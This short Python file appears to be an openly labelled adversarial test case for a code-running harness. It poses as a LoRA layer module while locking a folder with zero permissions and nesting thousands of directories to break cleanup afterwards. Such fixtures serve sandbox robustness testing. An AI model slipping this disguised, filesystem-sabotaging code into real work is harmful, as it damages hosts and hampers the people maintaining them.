# attack: folders nested thousands deep, and folders that nobody may enter, for whoever cleans up afterwards
# class: memory
import os

from wrong_layer import Wrong as LoRALinear
from wrong_layer import inject_lora, ran

__all__ = ["LoRALinear", "inject_lora"]
home = os.getcwd()
depth = 0
os.mkdir("closed")
os.mkdir("closed/inner")
os.chmod("closed", 0)
try:
    while depth < 3000:
        os.mkdir("d")
        os.chdir("d")
        depth += 1
except OSError as error:
    print(error.strerror)
os.chdir(home)
ran(f"{depth} folders deep")
